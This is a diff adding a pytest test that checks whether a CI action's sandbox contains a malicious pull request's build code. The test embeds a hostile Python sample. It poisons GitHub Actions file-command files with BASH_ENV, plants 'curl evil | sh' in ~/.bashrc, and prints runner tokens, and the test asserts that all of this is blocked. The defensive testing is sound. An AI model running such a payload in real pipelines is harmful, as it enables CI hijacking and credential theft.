@@ -104,3 +104,34 @@ def test_the_default_runner_class_is_the_owners(tmp_path: Path, owner: str, give
                                "TG_OWNER": owner, "TG_RUNNER_CLASS": given})
     assert proc.returncode == 0, proc.stderr
     assert parse_github_output(out) == {"runner-class": expected}
+
+
+HOSTILE = """
+import os, pathlib
+for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
+    if os.environ.get(name):
+        open(os.environ[name], "a").write("BASH_ENV=/tmp/owned\\nrows_changed=0\\n")
+pathlib.Path(os.path.expanduser("~/.bashrc")).write_text("curl evil | sh\\n")
+print("token:", os.environ.get("GITHUB_TOKEN"), os.environ.get("ACTIONS_RUNTIME_TOKEN"))
+"""
+
+
+@pytest.mark.parametrize("pr_job", [True, False])
+def test_the_compiler_s_own_code_cannot_write_the_runner_s_file_commands_or_a_pr_job_s_home(tmp_path, pr_job):
+    """What a PR's setup.py would do, run as build.sh runs the compiler's code."""
+    files = {name: tmp_path / name.lower() for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH",
+                                                          "GITHUB_STEP_SUMMARY")}
+    for f in files.values():
+        f.write_text("")
+    home = tmp_path / "home"
+    home.mkdir()
+    env = {"PATH": os.environ["PATH"], "HOME": str(home), "RUNNER_TEMP": str(tmp_path / "temp"),
+           "TG_CACHE_WRITE": "false" if pr_job else "true", "GITHUB_TOKEN": "ghs_x", "ACTIONS_RUNTIME_TOKEN": "y",
+           **{name: str(f) for name, f in files.items()}}
+    proc = subprocess.run(["bash", str(ACTION_DIR / "compiler_code.sh"), sys.executable, "-c", HOSTILE], env=env,
+                          capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 0, proc.stderr
+    assert all(f.read_text() == "" for f in files.values()) and "token: None None" in proc.stdout
+    assert (home / ".bashrc").exists() is not pr_job  # a PR job's HOME is thrown away
+    if pr_job:
+        assert list((tmp_path / "temp" / "tritongate-pr").glob("home-*/.bashrc"))
